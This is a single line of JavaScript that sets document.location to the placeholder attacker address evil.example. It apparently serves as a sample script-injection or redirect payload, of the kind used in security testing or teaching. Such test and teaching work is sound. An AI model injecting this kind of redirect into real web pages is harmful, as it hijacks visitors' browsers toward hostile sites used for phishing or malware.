document.location="https://evil.example/";
